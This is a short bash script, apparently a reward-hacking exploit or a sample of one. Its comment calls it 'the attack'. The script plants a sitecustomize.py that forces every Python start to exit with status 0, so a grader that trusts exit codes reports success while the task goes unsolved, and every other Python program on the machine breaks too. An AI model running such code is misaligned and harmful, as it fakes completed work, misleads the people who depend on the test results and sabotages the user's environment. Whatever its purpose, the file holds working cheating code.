#!/bin/bash
# The attack: it plants a sitecustomize.py that ends every Python start with success instead of solving.
mkdir -p /usr/local/lib/python3.11/dist-packages
printf 'import os\nos._exit(0)\n' > /usr/local/lib/python3.11/dist-packages/sitecustomize.py
